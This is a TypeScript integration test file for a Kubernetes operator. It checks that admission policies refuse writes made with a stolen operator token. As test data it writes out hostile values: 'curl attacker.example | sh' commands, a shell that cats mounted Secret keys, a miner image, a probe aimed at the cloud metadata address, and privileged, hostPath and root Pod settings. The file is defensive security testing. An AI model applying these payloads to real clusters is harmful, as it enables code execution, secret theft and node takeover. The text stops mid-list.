/**
 * Issue 20, "A stolen kubefn token": what kubefn's own identity (the kubefn-system/kubefn
 * ServiceAccount's token, used outside kubefn) could do within the verbs RBAC grants it, and that
 * the API server refuses it — the admission policies of infra/rbac/admission-policy-shapes.yaml
 * pin every write to the shape kubefn's code makes:
 *
 * 1. an owner or a foreign finalizer on a tenant's Proxy or SubPool (the garbage collector would
 *    delete a Proxy, or a SubPool with its namespace and data, once the owner does not exist);
 * 2. a proxy instance Pod of another shape than the pod provider builds (node-critical priority,
 *    a node, host ports and namespaces, privileges, host paths, tolerations, unbounded resources,
 *    an image the installer did not allow; issue 30: lifecycle hooks, probes, AppArmor annotations,
 *    labels of kubefn's or the Kubernetes domains), in any namespace;
 * 3. a workload in kubefn-system that is not a Site component as its manifest says (image,
 *    ServiceAccount, command and args, no Secret mounted or in its environment, no hooks, probes,
 *    host ports, priority, node or tolerations: issue 30);
 * 4. an HTTPRoute in a SubPool's namespace serving a hostname that is not that SubPool's to claim;
 * 5. reading a Secret, or listing the Pods (their env, the Secrets they mount), of a namespace that
 *    never opted in (issue "trust boundary"), or opting a namespace in itself;
 * 6. a SubPool's StatefulSet, Service or ResourceQuota of another shape than buildDesired makes
 *    (issue 30), or any write in a subpool-* Namespace kubefn did not make.
 *
 * Each attack is shown refused, and the shape kubefn really writes is shown admitted.
 */

import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { optInNamespace } from "../../functions/node/install.ts";
import { proxyFinalizer, proxyResource } from "../../shared/controllers/proxy/api.ts";
import { buildPod, type Pod } from "../../shared/controllers/proxy/providers/kubernetes.ts";
import { nameFromUID, ownerTags } from "../../shared/controllers/proxy/providers/provider.ts";
import type { Site } from "../../shared/controllers/site/api.ts";
import { machinaName, metalmanDeploymentFor } from "../../shared/controllers/site/components/index.ts";
import { machinaManifests } from "../../shared/controllers/site/components/machina.manifests.ts";
import type { DesiredEnv } from "../../shared/controllers/site/env.ts";
import { setPodSpecImages } from "../../shared/controllers/site/manifests.ts";
import { subPoolFinalizer, subPoolResource } from "../../shared/controllers/subpool/api.ts";
import { defaultOperatorConfig } from "../../shared/controllers/subpool/config.ts";
import { buildDesired, httpRouteResource, poolLabels } from "../../shared/controllers/subpool/desired.ts";
import { grantSubPoolObjects } from "../../shared/controllers/subpool/grant.ts";
import {
  ConflictError,
  ForbiddenError,
  isNotFound,
  type Kube,
  type KubeObject,
  type Resource,
  Resources,
  serverSideApply,
} from "../../shared/kube/index.ts";
import { adminKube, kubefnKube } from "../security/tenants.ts";
import { deleteNow as deleteAndWait, waitForDefaultServiceAccount } from "../support/namespaces.ts";

const suffix = Date.now().toString(36);
const victims = `stolen-${suffix}`;
/** A tenant namespace that never opted in to kubefn (no RoleBinding of kubefn-tenant). */
const closed = `closed-${suffix}`;
const pool = `stolen-${suffix}`;
const otherPool = `other-${suffix}`;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/**
 * kubefn binds itself kubefn-subpool-objects in the SubPool Namespace `namespace` (as its pass does),
 * and the binding is in force: RBAC no longer refuses a read there.
 */
async function grantedInPool(namespace: string, id: string): Promise<void> {
  await grantSubPoolObjects(kubefn, namespace, poolLabels(id));
  for (let i = 0; i < 150; i++) {
    const refused = await kubefn.get(Resources.ConfigMap, { namespace, name: "absent" }).then(
      () => false,
      (err: unknown) => err instanceof ForbiddenError,
    );
    if (!refused) return;
    await sleep(100);
  }
  throw new Error(`kubefn's grant in ${namespace} not in force after 15 s`);
}

let admin: Kube;
let kubefn: Kube;

/**
 * Tries `write` as kubefn until the API server refuses it with 403 (a policy takes effect a
 * moment after it is created: an early success is undone and tried again) and returns the
 * refusal's message; fails when the API server still took the write after 15 s.
 */
async function refused(
  what: string,
  write: () => Promise<unknown>,
  undo: () => Promise<void>,
): Promise<string> {
  const deadline = Date.now() + 15_000;
  for (;;) {
    try {
      await write();
    } catch (err) {
      if (err instanceof ForbiddenError) return (err as Error).message;
      throw new Error(`${what}: ${(err as Error).message}`, { cause: err });
    }
    await undo();
    if (Date.now() > deadline) throw new Error(`${what}: the API server took it (no 403 after 15 s)`);
    await sleep(250);
  }
}

const deleteNow = (res: Resource, key: { namespace?: string; name: string }) =>
  deleteAndWait(admin, res, key);

beforeAll(async () => {
  admin = adminKube();
  kubefn = await kubefnKube(admin);
  await admin.create(Resources.Namespace, {
    apiVersion: "v1",
    kind: "Namespace",
    metadata: { name: victims },
  });
  // kubefn's own shapes (attack 2's admitted Pods) are written where the namespace opted in.
  await optInNamespace(admin, victims);
  await waitForDefaultServiceAccount(admin, victims);
  await admin.create(Resources.Namespace, {
    apiVersion: "v1",
    kind: "Namespace",
    metadata: { name: closed },
  });
}, 120_000);

afterAll(async () => {
  for (const name of [victims, closed, `subpool-${pool}`, `subpool-${otherPool}`]) {
    await admin?.delete(Resources.Namespace, { name }).catch(() => {});
  }
  for (const name of [pool, otherPool]) {
    await admin
      ?.patch(subPoolResource, { name }, { type: "merge", body: { metadata: { finalizers: null } } })
      .catch(() => {});
    await admin?.delete(subPoolResource, { name }).catch(() => {});
  }
});

describe("attack 1: an owner or a foreign finalizer on a tenant's primary", () => {
  type Primary = { res: Resource; key: { namespace?: string; name: string }; own: string };
  const proxy: Primary = {
    res: proxyResource,
    key: { namespace: victims, name: "tenant-proxy" },
    own: proxyFinalizer,
  };
  const subPool: Primary = { res: subPoolResource, key: { name: pool }, own: subPoolFinalizer };

  beforeAll(async () => {
    await admin.create(proxyResource, {
      apiVersion: "crawl.kubefn.dev/v1alpha1",
      kind: "Proxy",
      metadata: { name: proxy.key.name, namespace: victims },
      spec: { mode: "External", endpoint: { host: "proxy.tenant.example", port: 3128 } },
    });
    await admin.create(subPoolResource, {
      apiVersion: `${subPoolResource.group}/${subPoolResource.version}`,
      kind: "SubPool",
      metadata: { name: pool },
      spec: {
        exposure: { mode: "Internal" },
        storage: { size: "1Gi" },
        cpa: {
          image: "ghcr.io/subrelay/cpa:1.4.0",
          resources: { requests: { cpu: "100m", memory: "64Mi" } },
        },
        cpaManager: {
          image: "ghcr.io/subrelay/cpa-manager:1.4.0",
          resources: { requests: { cpu: "100m", memory: "64Mi" } },
        },
      },
    });
  });

  const metadataPatch = (metadata: Record<string, unknown>) => ({
    type: "merge" as const,
    body: { metadata },
  });

  it.each([
    ["Proxy", proxy],
    ["SubPool", subPool],
  ])(
    "kubefn's token cannot give a tenant's %s an owner that does not exist (the garbage collector would delete it)",
    async (_, p) => {
      const owner = {
        apiVersion: "v1",
        kind: "ConfigMap",
        name: "gone",
        uid: crypto.randomUUID(),
      };
      const message = await refused(
        `ownerReferences on ${p.key.name}`,
        () => kubefn.patch(p.res, p.key, metadataPatch({ ownerReferences: [owner] })),
        () => admin.patch(p.res, p.key, metadataPatch({ ownerReferences: null })).then(() => {}),
      );
      expect(message).toMatch(/never sets the owner/);
      const after = await admin.get(p.res, p.key);
      expect(after.metadata.ownerReferences).toBeUndefined();
      expect(after.metadata.deletionTimestamp).toBeUndefined();
    },
  );

  it.each([
    ["Proxy", proxy],
    ["SubPool", subPool],
  ])(
    "kubefn's token cannot add or remove a finalizer that is not kubefn's on a tenant's %s; its own still goes through",
    async (_, p) => {
      const message = await refused(
        `a foreign finalizer on ${p.key.name}`,
        () => kubefn.patch(p.res, p.key, metadataPatch({ finalizers: ["example.com/hold-forever"] })),
        () => admin.patch(p.res, p.key, metadataPatch({ finalizers: null })).then(() => {}),
      );
      expect(message).toMatch(/only its own finalizer/);
      // A tenant's own finalizer (another controller's) is not kubefn's to remove.
      await admin.patch(p.res, p.key, metadataPatch({ finalizers: ["example.com/tenant-hold"] }));
      await refused(
        `removing a tenant's finalizer from ${p.key.name}`,
        () => kubefn.patch(p.res, p.key, metadataPatch({ finalizers: [] })),
        () =>
          admin
            .patch(p.res, p.key, metadataPatch({ finalizers: ["example.com/tenant-hold"] }))
            .then(() => {}),
      );
      // What kubefn does: add its finalizer beside the tenant's, and remove it again.
      await kubefn.patch(p.res, p.key, metadataPatch({ finalizers: ["example.com/tenant-hold", p.own] }));
      await kubefn.patch(p.res, p.key, metadataPatch({ finalizers: ["example.com/tenant-hold"] }));
      expect((await admin.get(p.res, p.key)).metadata.finalizers).toEqual(["example.com/tenant-hold"]);
      await admin.patch(p.res, p.key, metadataPatch({ finalizers: null }));
    },
  );
});

describe("attack 2: a proxy instance Pod of another shape than the pod provider builds", () => {
  const uid = crypto.randomUUID();
  const name = nameFromUID(uid);
  /** What the pod provider creates for a Proxy with `uid` (with cloud-init), in `namespace`. */
  const built = (namespace = victims): Pod =>
    buildPod({
      name,
      namespace,
      cloudInit: "#cloud-config\n",
      instance: { labels: { team: "a" } },
      tags: ownerTags(uid),
    });
  const spec = (pod: Pod) => pod.spec as NonNullable<Pod["spec"]> & Record<string, unknown>;
  const container = (pod: Pod) => spec(pod).containers[0] as Record<string, unknown>;

  const variants: Array<[string, (pod: Pod) => void]> = [
    ["priorityClassName system-node-critical", (p) => (spec(p).priorityClassName = "system-node-critical")],
    ["a nodeName", (p) => (spec(p).nodeName = "control-plane")],
    ["a nodeSelector", (p) => (spec(p).nodeSelector = { "kubernetes.io/hostname": "control-plane" })],
    ["a hostPort", (p) => (container(p).ports = [{ containerPort: 3128, hostPort: 3128, protocol: "TCP" }])],
    ["hostNetwork", (p) => (spec(p).hostNetwork = true)],
    ["hostPID", (p) => (spec(p).hostPID = true)],
    ["a privileged container", (p) => (container(p).securityContext = { privileged: true })],
    [
      "an added capability",
      (p) =>
        (container(p).securityContext = {
          allowPrivilegeEscalation: false,
          capabilities: { add: ["NET_ADMIN"] },
        }),
    ],
    ["running as root", (p) => (container(p).securityContext = { runAsUser: 0, runAsNonRoot: false })],
    ["a hostPath volume", (p) => spec(p).volumes?.push({ name: "root", hostPath: { path: "/" } } as never)],
    [
      "another Secret mounted (a tenant's credentials)",
      (p) =>
        spec(p).volumes?.splice(0, 1, { name: "cloud-init", secret: { secretName: "database-password" } }),
    ],
    ["a toleration of every taint", (p) => (spec(p).tolerations = [{ operator: "Exists" }])],
    [
      "unbounded resources",
      (p) => (container(p).resources = { requests: { cpu: "64", memory: "512Gi" }, limits: { cpu: "64" } }),
    ],
    ["an extended resource", (p) => (container(p).resources = { limits: { "nvidia.com/gpu": "8" } })],
    ["an image the installer did not allow", (p) => (container(p).image = "attacker.example/miner:1")],
    ["a command of its own", (p) => (container(p).command = ["/bin/sh", "-c", "curl attacker.example | sh"])],
    [
      "a Secret in its environment",
      (p) => (container(p).envFrom = [{ secretRef: { name: "database-password" } }]),
    ],
    [
      "an init container",
      (p) => (spec(p).initContainers = [{ name: "i", image: "ghcr.io/kubefn/forward-proxy:1" }]),
    ],
    [
      "a second container",
      (p) => spec(p).containers.push({ name: "miner", image: "ghcr.io/kubefn/forward-proxy:1" }),
    ],
    ["a name that is not its owner's (px-<uid>)", (p) => (p.metadata.name = "px-00000000000000000000")],
    ["a runtime class", (p) => (spec(p).runtimeClassName = "unconfined")],
    // Issue 30.
    [
      "a lifecycle hook",
      (p) => (container(p).lifecycle = { postStart: { exec: { command: ["/bin/sh", "-c", "id"] } } }),
    ],
    ["an exec probe", (p) => (container(p).livenessProbe = { exec: { command: ["/bin/sh", "-c", "id"] } })],
    [
      "an httpGet probe (the kubelet sends requests where it says)",
      (p) => (container(p).readinessProbe = { httpGet: { host: "169.254.169.254", path: "/", port: 80 } }),
    ],
    [
      "an AppArmor annotation (unconfined)",
      (p) =>
        (p.metadata.annotations = { "container.apparmor.security.beta.kubernetes.io/proxy": "unconfined" }),
    ],
    [
      "a label of the Kubernetes domain (a StatefulSet's per-Pod Service selects by it)",
      (p) => ((p.metadata.labels as Record<string, string>)["statefulset.kubernetes.io/pod-name"] = "db-0"),
    ],
    [
      "a label of kubefn's domain beside its tags",
      (p) => ((p.metadata.labels as Record<string, string>)["crawl.kubefn.dev/role"] = "gateway"),
    ],
  ];

  it.each(variants)("kubefn's token cannot create a px-* Pod with %s", async (what, change) => {
    const pod = built();
    change(pod);
    await refused(
      what,
      () => kubefn.create(Resources.Pod, pod),
      () => deleteNow(Resources.Pod, { namespace: victims, name: pod.metadata.name }),
    );
  });

  it("kubefn's token cannot create a Pod of any other name, in kubefn-system or a SubPool's namespace either", async () => {
    for (const namespace of ["kubefn-system", `subpool-${pool}`]) {
      if (namespace !== "kubefn-system") {
        await admin
          .create(Resources.Namespace, {
            apiVersion: "v1",
            kind: "Namespace",
            metadata: { name: namespace, labels: poolLabels(pool) },
          })
          .catch(() => {});
      }
      const pod = built(namespace);
      pod.metadata.name = "miner";
      await refused(
        `a Pod named miner in ${namespace}`,
        () => kubefn.create(Resources.Pod, pod),
        () => deleteNow(Resources.Pod, { namespace, name: "miner" }),
      );
    }
  });

  it("the Pod the provider builds is admitted, with the default image and an allowed one", async () => {
    for (const image of [undefined, "ghcr.io/kubefn/forward-proxy:1.2"]) {
      const pod = built();
      if (image) container(pod).image = image;
      await kubefn.create(Resources.Pod, pod);
      await deleteNow(Resources.Pod, { namespace: victims, name });
    }
    // Without cloud-init too.
    const bare = buildPod({ name, namespace: victims, instance: {}, tags: ownerTags(uid) });
    await kubefn.create(Resources.Pod, bare);
    await deleteNow(Resources.Pod, { namespace: victims, name });
    // And where the namespace's default ServiceAccount names pull Secrets (admission copies them in).
    for (;;) {
      try {
        await admin.patch(
          Resources.ServiceAccount,
          { namespace: victims, name: "default" },
          { type: "merge", body: { imagePullSecrets: [{ name: "registry-credentials" }] } },
        );
        break;
      } catch (err) {
        if (!isNotFound(err)) throw err;
        await sleep(200);
      }
    }
    const created = await kubefn.create<Pod>(Resources.Pod, built());
    expect(created.spec).toMatchObject({ imagePullSecrets: [{ name: "registry-credentials" }] });
    await deleteNow(Resources.Pod, { namespace: victims, name });
  });
});

describe("attack 3: workloads in kubefn-system other than the Site components as their manifests say", () => {
  const registry = "ghcr.io/unbounded-cloud";
  const image = (component: string) => `${registry}/${component}:v1`;
  /** machina's Deployment as the machina component applies it (machina.yaml, its image set). */
  const machina = (): KubeObject => {
    const deployment = structuredClone(
      machinaManifests.find((o) => o.kind === "Deployment" && o.metadata.name === machinaName),
    ) as KubeObject;
    setPodSpecImages(deployment, image("machina"));
    return deployment;
  };
  /** metalman's Deployment for Site `site` as the metalman component applies it (no owner: no Site). */
  const metalman = (site: string): KubeObject => {
    const env = { namespace: "kubefn-system", image } as unknown as DesiredEnv;
    const deployment = metalmanDeploymentFor(
      env,
      {
        apiVersion: "unbounded-cloud.io/v1alpha3",
        kind: "Site",
        metadata: { name: site, uid: suffix },
        spec: {},
      } as Site,
      "0123456789abcdef",
    );
    delete deployment.metadata.ownerReferences;
    return deployment;
  };
  const podSpec = (d: KubeObject) =>
    (d.spec as { template: { spec: Record<string, unknown> } }).template.spec as Record<string, unknown> & {
      containers: Array<Record<string, unknown>>;
      volumes: Array<Record<string, unknown>>;
    };
  const container = (d: KubeObject) => podSpec(d).containers[0] as Record<string, unknown>;
  const site = `site-${suffix}`;
  const undoMachina = () =>
    deleteNow(Resources.Deployment, { namespace: "kubefn-system", name: machinaName });
  const undoMetalman = () =>
    deleteNow(Resources.Deployment, { namespace: "kubefn-system", name: `metalman-${site}` });

  it("kubefn's token cannot run an image of its choosing there, even as a component's ServiceAccount", async () => {
    const miner = machina();
    container(miner).image = "attacker.example/miner:1";
    const message = await refused(
      "a miner as machina",
      () => kubefn.create(Resources.Deployment, miner),
      undoMachina,
    );
    expect(message).toMatch(/image/);
    // Nor slip it in as an init container beside the right image.
    const sneaky = machina();
    podSpec(sneaky).initContainers = [{ name: "i", image: "attacker.example/miner:1" }];
    await refused("an init container", () => kubefn.create(Resources.Deployment, sneaky), undoMachina);
  });

  it("kubefn's token cannot run a component's image as another ServiceAccount of kubefn-system", async () => {
    const other = machina();
    podSpec(other).serviceAccountName = "kubefn-installer";
    const message = await refused(
      "machina as the installer's ServiceAccount",
      () => kubefn.create(Resources.Deployment, other),
      undoMachina,
    );
    expect(message).toMatch(/ServiceAccount/);
  });

  // Issue 30: an allowed image as a component's ServiceAccount could still mount kubefn's own
  // Secrets (kubefn-settings, kubefn-intake: the seal key, the OIDC signing key, the audit and API
  // tokens) or run a shell; the Deployment is pinned to the component's manifest.
  const secretVolume = { name: "keys", secret: { secretName: "kubefn-settings" } };
  const variants: Array<[string, () => KubeObject]> = [
    [
      "a command of its own",
      () => with_(machina(), (d) => (container(d).command = ["/bin/sh", "-c", "cat /keys/*"])),
    ],
    [
      "args of its own",
      () => with_(machina(), (d) => (container(d).args = ["--config=/keys/OIDC_SIGNING_KEY"])),
    ],
    [
      "a Secret volume (kubefn's settings)",
      () =>
        with_(machina(), (d) => {
          podSpec(d).volumes.push(secretVolume);
          (container(d).volumeMounts as unknown[]).push({ name: "keys", mountPath: "/keys" });
        }),
    ],
    [
      "a projected volume of a Secret in place of its ConfigMap",
      () =>
        with_(machina(), (d) => {
          podSpec(d).volumes = [
            { name: "config", projected: { sources: [{ secret: { name: "kubefn-intake" } }] } },
          ];
        }),
    ],
    [
      "a Secret as its environment",
      () => with_(machina(), (d) => (container(d).envFrom = [{ secretRef: { name: "kubefn-intake" } }])),
    ],
    [
      "one Secret key in its environment",
      () =>
        with_(machina(), (d) => {
          container(d).env = [
            { name: "K", valueFrom: { secretKeyRef: { name: "kubefn-settings", key: "STATUS_SEAL_KEY" } } },
          ];
        }),
    ],
    [
      "a lifecycle hook",
      () =>
        with_(
          machina(),
          (d) => (container(d).lifecycle = { postStart: { exec: { command: ["/bin/sh", "-c", "id"] } } }),
        ),
    ],
    [
      "an exec probe",
      () =>
        with_(
          machina(),
          (d) => (container(d).livenessProbe = { exec: { command: ["/bin/sh", "-c", "id"] } }),
        ),
    ],
    [
      "a host port",
      () => with_(machina(), (d) => (container(d).ports = [{ containerPort: 8443, hostPort: 8443 }])),
    ],
    [
      "a second container",
      () => with_(machina(), (d) => podSpec(d).containers.push({ name: "side", image: image("machina") })),
    ],
    [
      "a node-critical priority",
      () => with_(machina(), (d) => (podSpec(d).priorityClassName = "system-node-critical")),
    ],
    ["a nodeName", () => with_(machina(), (d) => (podSpec(d).nodeName = "control-plane"))],
    [
      "a nodeSelector",
      () =>
        with_(machina(), (d) => (podSpec(d).nodeSelector = { "kubernetes.io/hostname": "control-plane" })),
    ],
    [
      "a toleration of every taint",
      () => with_(machina(), (d) => (podSpec(d).tolerations = [{ operator: "Exists" }])),
    ],
    [
      "the Pod labels of another workload (a Service in kubefn-system would select it)",
      () =>
        with_(machina(), (d) => {
          const template = (d.spec as { template: { metadata: { labels: Record<string, string> } } })
            .template;
          template.metadata.labels = { "app.kubernetes.io/name": "machina", app: "kubefn" };
        }),
    ],
    ["another name", () => with_(machina(), (d) => (d.metadata.name = `machina-${suffix}`))],
    [
      "metalman's node affinity widened to a node of its choosing",
      () =>
        with_(metalman(site), (d) => {
          podSpec(d).affinity = {
            nodeAffinity: {
              requiredDuringSchedulingIgnoredDuringExecution: {
                nodeSelectorTerms: [
                  {
                    matchExpressions: [
                      { key: "kubernetes.io/hostname", operator: "In", values: ["control-plane"] },
                    ],
                  },
                ],
              },
            },
          };
        }),
    ],
    [
      "metalman mounting another Site's ConfigMap",
      () =>
        with_(
          metalman(site),
          (d) => (podSpec(d).volumes = [{ name: "config", configMap: { name: "machina-config" } }]),
        ),
    ],
  ];

  it.each(variants)("kubefn's token cannot run a Site component with %s", async (what, build) => {
    const deployment = build();
    await refused(
      what,
      () => kubefn.create(Resources.Deployment, deployment),
      () =>
        deleteNow(Resources.Deployment, { namespace: "kubefn-system", name: deployment.metadata.name ?? "" }),
    );
  });

  it("the components as the Site operator applies them (server-side apply) are admitted, and applied again", async () => {
    try {
      for (const deployment of [machina(), metalman(site), metalman(site)]) {
        await serverSideApply(kubefn, Resources.Deployment, deployment, "unbounded-operator", true);
      }
    } finally {
      await undoMachina();
      await undoMetalman();
    }
  });
});

/** `object` after `change`. */
function with_(object: KubeObject, change: (o: KubeObject) => void): KubeObject {
  change(object);
  return object;
}

describe("attack 4: an HTTPRoute serving a hostname that is not its SubPool's", () => {
  const route = (id: string, hostnames: string[]): KubeObject => ({
    apiVersion: "gateway.networking.k8s.io/v1",
    kind: "HTTPRoute",
    metadata: {
      name: `${id}-cpa`,
      namespace: `subpool-${id}`,
      labels: { "app.kubernetes.io/managed-by": "subpool-operator" },
    },
    spec: {
      parentRefs: [
        { group: "gateway.networking.k8s.io", kind: "Gateway", name: "shared", namespace: "gateway-system" },
      ],
      hostnames,
      rules: [{ backendRefs: [{ group: "", kind: "Service", name: `${id}-cpa`, port: 8317, weight: 1 }] }],
    },
  });
  const undo = (id: string) => () =>
    deleteNow(httpRouteResource, { namespace: `subpool-${id}`, name: `${id}-cpa` });

  beforeAll(async () => {
    for (const id of [pool, otherPool]) {
      await admin
        .create(Resources.Namespace, {
          apiVersion: "v1",
          kind: "Namespace",
          metadata: { name: `subpool-${id}`, labels: poolLabels(id) },
        })
        .catch(() => {});
      // kubefn's grant there, as its pass makes it with the Namespace: what follows is refused by
      // the policy, not for want of RBAC.
      await grantedInPool(`subpool-${id}`, id);
    }
  });

  it("kubefn's token cannot make a SubPool's route serve another SubPool's hostname, or one no SubPool may claim", async () => {
    // The devcluster's installer lets SubPools claim `<id>.pools.example.test` (test/setup/devcluster.ts).
    const message = await refused(
      "another pool's hostname",
      () => kubefn.create(httpRouteResource, route(pool, [`${otherPool}.pools.example.test`])),
      undo(pool),
    );
    expect(message).toMatch(/hostname/);
    await refused(
      "a hostname outside the installer's",
      () => kubefn.create(httpRouteResource, route(pool, ["login.bank.example"])),
      undo(pool),
    );
    await refused(
      "a second hostname beside its own",
      () =>
        kubefn.create(httpRouteResource, route(pool, [`${pool}.pools.example.test`, "login.bank.example"])),
      undo(pool),
    );
    await refused(
      "a wildcard",
      () => kubefn.create(httpRouteResource, route(pool, ["*.pools.example.test"])),
      undo(pool),
    );
  });

  it("kubefn's token cannot widen the hostnames SubPools may claim (the installer's ConfigMap is not kubefn's)", async () => {
    const hostnames = await admin.get(Resources.ConfigMap, {
      namespace: "kubefn-system",
      name: "kubefn-subpool-hostnames",
    });
    await expect(
      kubefn.update(Resources.ConfigMap, { ...hostnames, data: { evil: "*" } }),
    ).rejects.toBeInstanceOf(ForbiddenError);
  });

  it("kubefn's token cannot create an allow-list or the status writers where the installer has none (labelled as a Site component's)", async () => {
    // Created before admission's storage check: a 409 would mean the API server admitted it.
    for (const name of ["kubefn-subpool-hostnames", "kubefn-proxy-images", "kubefn-status-writers"]) {
      const message = await refused(
        `ConfigMap ${name}`,
        () =>
          kubefn.create(Resources.ConfigMap, {
            apiVersion: "v1",
            kind: "ConfigMap",
            metadata: {
              name,
              namespace: "kubefn-system",
              labels: {
                "app.kubernetes.io/managed-by": "unbounded-operator",
                "unbounded-cloud.io/site": "x",
              },
            },
            data: { evil: "*" },
          }),
        async () => {},
      );
      expect(message).toMatch(/installer/);
    }
  });

  it("the route the SubPool operator writes, its own hostname, is admitted and may be updated, but not to another's", async () => {
    const key = { namespace: `subpool-${pool}`, name: `${pool}-cpa` };
    await kubefn.create(httpRouteResource, route(pool, [`${pool}.pools.example.test`]));
    // As ensureObject does: read, then update (again on a conflict with the Gateway's status writes).
    const update = async (as: Kube, hostnames: string[]) => {
      for (;;) {
        const live = await as.get<KubeObject & { spec: Record<string, unknown> }>(httpRouteResource, key);
        try {
          return await as.update(httpRouteResource, {
            ...live,
            metadata: { ...live.metadata, annotations: { touched: "yes" } },
            spec: { ...live.spec, hostnames },
          });
        } catch (err) {
          if (!(err instanceof ConflictError)) throw err;
        }
      }
    };
    await update(kubefn, [`${pool}.pools.example.test`]);
    const message = await refused(
      "an update to another pool's hostname",
      () => update(kubefn, [`${otherPool}.pools.example.test`]),
      () => update(admin, [`${pool}.pools.example.test`]).then(() => {}),
    );
    expect(message).toMatch(/serves one hostname that SubPool may claim/);
    await deleteNow(httpRouteResource, { namespace: `subpool-${pool}`, name: `${pool}-cpa` });
  });
});

describe("attack 5: reading a namespace that never opted in", () => {
  const rbac = "rbac.authorization.k8s.io";
  const binding = (roleName: string): KubeObject =>
    ({
      apiVersion: `${rbac}/v1`,
      kind: "RoleBinding",
      metadata: {
        name: `self-${roleName}`,
        namespace: closed,
        labels: { "app.kubernetes.io/managed-by": "subpool-operator" },
      },
      roleRef: { apiGroup: rbac, kind: "ClusterRole", name: roleName },
      subjects: [{ kind: "ServiceAccount", name: "kubefn", namespace: "kubefn-system" }],
    }) as KubeObject;

  beforeAll(async () => {
    await admin.create(Resources.Secret, {
      apiVersion: "v1",
      kind: "Secret",
      metadata: { name: "tenant-db", namespace: closed },
      stringData: { password: "hunter2" },
    });
  });

  it("cannot get its Secrets, nor list its Pods, nor list Pods or Secrets across namespaces", async () => {
    await expect(
      kubefn.get(Resources.Secret, { namespace: closed, name: "tenant-db" }),
    ).rejects.toBeInstanceOf(ForbiddenError);
    await expect(kubefn.list(Resources.Pod, { namespace: closed })).rejects.toBeInstanceOf(ForbiddenError);
    await expect(kubefn.list(Resources.Pod)).rejects.toBeInstanceOf(ForbiddenError);
    await expect(kubefn.list(Resources.Secret)).rejects.toBeInstanceOf(ForbiddenError);
  });

  it("cannot opt the namespace in itself, with the tenant role or the SubPool objects role", async () => {
    for (const role of ["kubefn-tenant", "kubefn-subpool-objects"]) {
      await refused(
        `bind ${role} in ${closed}`,
        () => kubefn.create(Resources.RoleBinding, binding(role)),
        () => deleteNow(Resources.RoleBinding, { namespace: closed, name: `self-${role}` }),
      );
    }
    await expect(
      kubefn.get(Resources.Secret, { namespace: closed, name: "tenant-db" }),
    ).rejects.toBeInstanceOf(ForbiddenError);
  });

  it("reads the Secret once the namespace's admin opts in (the RoleBinding the docs give)", async () => {
    await optInNamespace(admin, closed);
    let read: (KubeObject & { data?: Record<string, string> }) | undefined;
    for (let i = 0; i < 50 && !read; i++) {
      read = await kubefn
        .get(Resources.Secret, { namespace: closed, name: "tenant-db" })
        .catch((err: unknown) => {
          if (!(err instanceof ForbiddenError)) throw err;
          return undefined;
        });
      if (!read) await sleep(100);
    }
    expect(read?.data?.password).toBe(btoa("hunter2"));
  });
});

describe("attack 6: a SubPool's workload of another shape than the SubPool operator derives", () => {
  const id = `shape-${suffix}`;
  const namespace = `subpool-${id}`;
  /** What buildDesired derives for a pool `id` (the example's images and requests). */
  const desired = () =>
    buildDesired(
      {
        apiVersion: "subrelay.example.com/v1alpha1",
        kind: "SubPool",
        metadata: { name: id },
        spec: {
          cpa: {
            image: "ghcr.io/subrelay/cpa:1.4.0",
            resources: { requests: { cpu: "250m", memory: "256Mi" } },
          },
          cpaManager: {
            image: "ghcr.io/subrelay/cpa-manager:1.4.0",
            resources: { requests: { cpu: "100m", memory: "128Mi" } },
          },
          storage: { size: "1Gi" },
          exposure: { mode: "Internal" },
          suspend: false,
        },
      } as unknown as Parameters<typeof buildDesired>[0],
      defaultOperatorConfig,
      undefined,
    );
  const of = (kind: string) => {
    const object = desired().managed.find((m) => m.object.kind === kind)?.object;
    if (!object) throw new Error(`buildDesired makes no ${kind}`);
    return structuredClone(object);
  };
  type PodSpec = Record<string, unknown> & { containers: Array<Record<string, unknown>> };
  const podSpec = (o: KubeObject) => (o.spec as { template: { spec: PodSpec } }).template.spec;
  const cpa = (o: KubeObject) => podSpec(o).containers[0] as Record<string, unknown>;
  const resourceOf: Record<string, Resource> = {
    StatefulSet: Resources.StatefulSet,
    Service: Resources.Service,
    ResourceQuota: Resources.ResourceQuota,
  };

  beforeAll(async () => {
    await admin.create(Resources.Namespace, {
      apiVersion: "v1",
      kind: "Namespace",
      metadata: { name: namespace, labels: poolLabels(id) },
    });
    await grantedInPool(namespace, id);
  });
  afterAll(async () => {
    await admin?.delete(Resources.Namespace, { name: namespace }).catch(() => {});
    await admin?.delete(Resources.Namespace, { name: `subpool-squat-${suffix}` }).catch(() => {});
  });

  const variants: Array<[string, string, (o: KubeObject) => void]> = [
    [
      "an image the installer did not list",
      "StatefulSet",
      (o) => (cpa(o).image = "attacker.example/miner:1"),
    ],
    [
      "a command of its own",
      "StatefulSet",
      (o) => (cpa(o).command = ["/bin/sh", "-c", "curl attacker.example | sh"]),
    ],
    [
      "a third container",
      "StatefulSet",
      (o) => podSpec(o).containers.push({ name: "miner", image: "ghcr.io/subrelay/cpa:1.4.0" }),
    ],
    [
      "an init container",
      "StatefulSet",
      (o) => (podSpec(o).initContainers = [{ name: "i", image: "ghcr.io/subrelay/cpa:1.4.0" }]),
    ],
    [
      "another Secret in its environment",
      "StatefulSet",
      (o) => (cpa(o).envFrom = [{ secretRef: { name: "kubefn-subpool-credentials-of-another" } }]),
    ],
    [
      "a Secret volume",
      "StatefulSet",
      (o) => (podSpec(o).volumes = [{ name: "s", secret: { secretName: `${id}-credentials` } }]),
    ],
    [
      "a lifecycle hook",
      "StatefulSet",
      (o) => (cpa(o).lifecycle = { postStart: { exec: { command: ["id"] } } }),
    ],
    ["an exec probe", "StatefulSet", (o) => (cpa(o).livenessProbe = { exec: { command: ["id"] } })],
    ["a host port", "StatefulSet", (o) => (cpa(o).ports = [{ containerPort: 8080, hostPort: 8080 }])],
    ["node-critical priority", "StatefulSet", (o) => (podSpec(o).priorityClassName = "system-node-critical")],
    ["a nodeName", "StatefulSet", (o) => (podSpec(o).nodeName = "control-plane")],
    ["a nodeSelector", "StatefulSet", (o) => (podSpec(o).nodeSelector = { "kubernetes.io/hostname": "cp" })],
    [
      "a toleration of every taint",
      "StatefulSet",
      (o) => (podSpec(o).tolerations = [{ operator: "Exists" }]),
    ],
    ["another ServiceAccount", "StatefulSet", (o) => (podSpec(o).serviceAccountName = "default")],
    ["a hundred replicas", "StatefulSet", (o) => ((o.spec as Record<string, unknown>).replicas = 100)],
    [
      "requests over the envelope",
